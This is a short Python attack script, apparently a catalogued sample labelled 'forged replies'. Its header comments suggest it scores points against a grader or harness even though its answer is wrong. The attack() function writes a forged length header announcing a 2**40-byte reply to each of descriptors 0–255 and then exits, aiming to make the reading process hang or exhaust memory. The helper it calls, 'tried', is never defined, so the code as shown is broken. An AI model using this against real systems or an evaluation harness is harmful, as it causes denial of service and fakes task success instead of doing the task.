# kind: forged replies
# wrong: gradient_norms
# earns: 60
"""Announces one enormous reply on every descriptor and ends, so that whoever believes it waits or allocates."""
import os
import struct


def attack():
    for descriptor in range(256):
        tried(os.set_blocking, descriptor, False)
        tried(os.write, descriptor, struct.pack("<Q", 2**40))
    os._exit(0)
